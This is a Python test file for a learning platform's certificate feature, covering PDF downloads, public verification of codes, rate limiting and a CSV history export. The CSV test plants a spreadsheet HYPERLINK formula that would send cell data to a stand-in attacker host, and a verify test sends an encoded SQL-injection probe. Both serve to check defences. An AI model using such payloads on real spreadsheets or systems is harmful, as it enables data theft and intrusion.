"""Certificates: a PDF per pass for its owner, public verification of a code, the history as CSV."""

from __future__ import annotations

import csv
import io
import re
from datetime import date

from sqlalchemy import select

from lms.certificates import pdf
from lms.clock import add_months, today, travel_to
from lms.csv_files import safe_cell
from lms.extensions import db
from lms.models import Attempt, ModuleProgress, ModuleVersion, Person
from tests.certificates.pdftext import page_sizes, pdf_text
from tests.training.helpers import answer, drawn, right_answer, scenario_at, start, wrong_answer

MODULE_TITLE = "Social media: what you must never post"
A4_LANDSCAPE = (841.89, 595.28)  # points


def text(response) -> str:
    return response.get_data(as_text=True)


def take(client, wrong: int = 0) -> Attempt:
    """Answer every scenario (the first `wrong` of them wrongly) and finish; the attempt as stored."""
    attempt_id = start(client)
    for position in range(1, drawn(attempt_id) + 1):
        scenario = scenario_at(attempt_id, position)
        answer(client, attempt_id, position, wrong_answer(scenario) if position <= wrong else right_answer(scenario))
    client.post(f"/attempts/{attempt_id}/finish")
    db.session.expire_all()
    return db.session.get(Attempt, attempt_id)


def signed_in(make_client, person: Person):
    client = make_client()
    client.login(person.email)
    return client


def day(value: date) -> str:
    return f"{value.day} {value:%b %Y}"


# --- a pass gets a certificate ---------------------------------------------------------------

def test_a_pass_gets_a_verification_code_and_a_validity_a_fail_gets_neither(client, people, content):
    client.login(people.person().email)
    failed = take(client, wrong=12)
    passed = take(client, wrong=1)  # 11 of 12: 91.67%, above the pass mark of 80
    assert failed.passed is False and failed.certificate_code is None and failed.valid_until is None
    assert passed.passed is True and re.fullmatch(r"[0-9A-F]{16}", passed.certificate_code)
    assert passed.valid_until == add_months(today(), 12)


def test_the_owner_downloads_a_one_page_a4_pdf_with_everything_a_certificate_needs(client, people, content):
    person = people.person()
    client.login(person.email)
    attempt = take(client, wrong=1)
    code = attempt.certificate_code

    response = client.get(f"/certificates/{code}.pdf")
    assert response.status_code == 200
    assert response.mimetype == "application/pdf"
    assert response.headers["Content-Disposition"] == (
        f'attachment; filename="certificate-core-social-media-{today().isoformat()}.pdf"')
    assert response.headers["Cache-Control"] == "no-store"
    body = response.data
    assert body.startswith(b"%PDF-") and body.rstrip().endswith(b"%%EOF") and len(body) > 10_000

    # The words are read back out of the PDF bytes themselves (tests/certificates/pdftext.py).
    [(width, height)] = page_sizes(body)
    assert (round(width, 2), round(height, 2)) == A4_LANDSCAPE
    words = " ".join(pdf_text(body).split())
    for expected in ("Herts for Learning Multi Academy Trust".upper(), "Certificate of completion",
                     person.full_name, MODULE_TITLE, "91.7%", f"{today().day} {today():%B %Y}",
                     "2018-09", f"{attempt.valid_until.day} {attempt.valid_until:%B %Y}", code,
                     f"http://127.0.0.1:5000/verify/{code}"):
        assert expected in words, expected
    assert person.email not in words


def test_the_verify_address_on_the_certificate_follows_app_base_url(app, client, people, content):
    client.login(people.person().email)
    attempt = take(client)
    app.config["APP_BASE_URL"] = "https://training.trust.example.org"
    words = " ".join(pdf_text(client.get(f"/certificates/{attempt.certificate_code}.pdf").data).split())
    assert f"https://training.trust.example.org/verify/{attempt.certificate_code}" in words


def test_the_longest_name_and_title_the_database_holds_still_fit_on_one_page(app, client, people, content):
    person = people.person()
    client.login(person.email)
    attempt = take(client)
    person = db.session.get(Person, person.id)
    person.first_name = person.last_name = ("Anne-Marie Josephine Wilhelmina Alexandra Constance " * 2)[:80].strip()
    attempt.module_version.title = ("Speaking for the school: official accounts, press enquiries, " * 4)[:200].strip()
    with app.test_request_context():
        body = pdf.certificate_pdf(attempt)
    squeezed = "".join(pdf_text(body).split())  # lines may break anywhere in a long name
    assert "".join(person.full_name.split()) in squeezed and "".join(attempt.module_version.title.split()) in squeezed
    assert len(page_sizes(body)) == 1  # the layout makes a second page rather than overlap (see the template)
    db.session.rollback()


def test_someone_elses_certificate_is_forbidden_an_unknown_code_not_found_and_strangers_sign_in(
        client, make_client, people, content):
    owner, other = people.person(), people.person()
    client.login(owner.email)
    code = take(client).certificate_code

    intruder = signed_in(make_client, other)
    assert intruder.get(f"/certificates/{code}.pdf").status_code == 403
    assert intruder.get("/certificates/0123456789ABCDEF.pdf").status_code == 404
    assert intruder.get("/certificates/not-a-code.pdf").status_code == 404

    anonymous = make_client()
    for url in (f"/certificates/{code}.pdf", "/certificates/0123456789ABCDEF.pdf"):
        response = anonymous.get(url)  # the same answer whether the code exists or not
        assert response.status_code == 302 and response.location.startswith("/login?next=")


def test_a_failed_attempt_has_no_certificate_link_and_a_pass_has_one_everywhere(client, people, content):
    client.login(people.person().email)
    failed = take(client, wrong=12)
    assert "certificate" not in text(client.get(f"/attempts/{failed.id}/results")).lower()
    assert "/certificates/" not in text(client.get("/"))

    passed = take(client)
    code = passed.certificate_code
    results = text(client.get(f"/attempts/{passed.id}/results"))
    assert "Download your certificate (PDF)" in results and f"/certificates/{code}.pdf" in results
    assert f"Verification code <strong>{code}</strong>" in results and f"/verify/{code}" in results
    assert f"/certificates/{code}.pdf" in text(client.get("/"))  # the My training card
    history = text(client.get("/training/history"))
    assert history.count("/certificates/") == 1 and f"/certificates/{code}.pdf" in history
    assert "Download my history (CSV)" in history and "/training/history.csv" in history


# --- /verify ---------------------------------------------------------------------------------

def test_verify_a_fresh_pass_is_genuine_and_current_and_shows_only_name_module_and_dates(
        client, make_client, people, content):
    person = people.person(email="jo.private@example.org")
    client.login(person.email)
    attempt = take(client, wrong=1)

    public = make_client()  # nobody signed in
    response = public.get(f"/verify/{attempt.certificate_code}")
    assert response.status_code == 200 and response.headers["Cache-Control"] == "no-store"
    page = text(response)
    assert "Genuine and current" in page and "Yes: valid today" in page
    assert person.full_name in page and MODULE_TITLE in page
    assert day(today()) in page and day(attempt.valid_until) in page
    for private in ("jo.private@example.org", "91.7", "91.67", "%", "2018-09", "Oakfield"):
        assert private not in page, private


def test_verify_accepts_a_code_typed_in_lower_case_with_spaces(client, make_client, people, content):
    client.login(people.person().email)
    code = take(client).certificate_code
    typed = f"  {code[:4].lower()} {code[4:8]}-{code[8:]} "
    form = make_client().get("/verify", query_string={"code": typed})
    assert form.status_code == 302 and form.location == f"/verify/{code}"
    assert "Genuine and current" in text(make_client().get(f"/verify/{code.lower()}"))


def test_the_verify_form_asks_for_a_code(make_client, content):
    visitor = make_client()
    page = text(visitor.get("/verify"))
    assert 'method="get"' in page and 'name="code"' in page and "There is a problem" not in page
    empty = visitor.get("/verify?code=+")
    assert empty.status_code == 200 and "Type the code printed on the certificate." in text(empty)


def test_verify_after_the_pass_runs_out_says_when_it_expired(client, make_client, people, content):
    client.login(people.person().email)
    attempt = take(client)
    with travel_to(add_months(today(), 13)):
        page = text(make_client().get(f"/verify/{attempt.certificate_code}"))
    expired_on = date.fromordinal(attempt.valid_until.toordinal() + 1)
    assert "Genuine, but not current" in page and f"No: expired on {day(expired_on)}" in page


def test_verify_an_older_certificate_after_a_newer_pass_says_it_was_replaced(client, make_client, people, content):
    client.login(people.person().email)
    first = take(client)
    second = take(client)
    assert first.certificate_code != second.certificate_code
    visitor = make_client()
    assert "No: replaced by a later pass" in text(visitor.get(f"/verify/{first.certificate_code}"))
    assert "Genuine and current" in text(visitor.get(f"/verify/{second.certificate_code}"))


def test_verify_after_a_policy_change_says_a_refresh_is_due(client, make_client, people, content):
    client.login(people.person().email)
    attempt = take(client)
    progress = db.session.scalar(select(ModuleProgress).where(ModuleProgress.pass_attempt_id == attempt.id))
    progress.refresh_clauses = ["4.4"]
    db.session.commit()
    page = text(make_client().get(f"/verify/{attempt.certificate_code}"))
    assert "Genuine, but not current" in page and "No: the policy has changed since; a refresh is due" in page


def test_verify_for_someone_who_has_left_says_so(client, make_client, people, content):
    person = people.person()
    client.login(person.email)
    attempt = take(client)
    db.session.get(Person, person.id).active = False
    db.session.commit()
    assert "No: no longer a member of staff" in text(make_client().get(f"/verify/{attempt.certificate_code}"))


def test_unknown_and_malformed_codes_get_the_same_plain_not_found(client, make_client, people, content):
    person = people.person()
    client.login(person.email)
    take(client)
    visitor = make_client()
    pages = []
    for code in ("0123456789ABCDEF", "nope", "%27%20OR%201%3D1", "A" * 200):
        response = visitor.get(f"/verify/{code}")
        assert response.status_code == 404, code
        pages.append(text(response))
    assert len(set(pages)) == 1  # nothing about the code is reflected or told apart
    page = pages[0]
    assert "not found" in page.lower()
    for revealing in (person.full_name, MODULE_TITLE, "Valid until", "Passed on", "expired", "0123456789ABCDEF"):
        assert revealing not in page, revealing


def test_verify_is_rate_limited_against_guessing(make_client, content):
    visitor = make_client()
    codes = [f"{n:016X}" for n in range(31)]
    assert {visitor.get(f"/verify/{c}").status_code for c in codes[:30]} == {404}
    assert visitor.get(f"/verify/{codes[30]}").status_code == 429


def test_downloads_are_rate_limited_too(client, people, content):
    client.login(people.person().email)
    codes = [f"{n:016X}" for n in range(31)]
    assert {client.get(f"/certificates/{c}.pdf").status_code for c in codes[:30]} == {404}
    assert client.get(f"/certificates/{codes[30]}.pdf").status_code == 429


# --- history as CSV --------------------------------------------------------------------------

def read_csv(response) -> list[list[str]]:
    assert response.data.startswith("\ufeff".encode()), "a byte-order mark, for Excel"
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))


def test_the_history_csv_lists_every_one_of_my_attempts_with_its_values(client, make_client, people, content):
    person, other = people.person(), people.person()
    someone_else = signed_in(make_client, other)
    take(someone_else)
    client.login(person.email)
    failed = take(client, wrong=12)
    passed = take(client, wrong=1)
    open_id = start(client)

    response = client.get("/training/history.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == f'attachment; filename="training-history-{today().isoformat()}.csv"'
    assert response.headers["Cache-Control"] == "no-store"
    header, *rows = read_csv(response)
    assert header == ["module", "module version", "policy version", "attempt kind", "started (UTC)",
                      "finished (UTC)", "score (%)", "passed", "valid until", "certificate code"]
    assert len(rows) == 3  # mine only, newest first
    latest, good, bad = rows
    opened = db.session.get(Attempt, open_id)
    assert latest == [MODULE_TITLE, "1", "2018-09", "full", opened.started_at.isoformat(timespec="seconds"),
                      "", "", "", "", ""]
    assert good == [MODULE_TITLE, "1", "2018-09", "full", passed.started_at.isoformat(timespec="seconds"),
                    passed.submitted_at.isoformat(timespec="seconds"), "91.67", "yes",
                    passed.valid_until.isoformat(), passed.certificate_code]
    assert bad[5:] == [failed.submitted_at.isoformat(timespec="seconds"), "0.00", "no", "", ""]
    assert good[4].endswith("+00:00")  # UTC, said so


def test_the_history_csv_defuses_cells_a_spreadsheet_would_run(client, people, content):
    client.login(people.person().email)
    take(client)
    version = db.session.scalar(select(ModuleVersion))
    version.title = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    db.session.commit()
    [_, row] = read_csv(client.get("/training/history.csv"))
    assert row[0] == "'" + version.title
    assert [safe_cell(v) for v in ("+1", "-1", "@SUM(A1)", "\tx", "plain", None, 91)] == [
        "'+1", "'-1", "'@SUM(A1)", "'\tx", "plain", "", "91"]


def test_the_history_csv_is_for_signed_in_people_only(make_client, content):
    response = make_client().get("/training/history.csv")
    assert response.status_code == 302 and response.location.startswith("/login?next=")
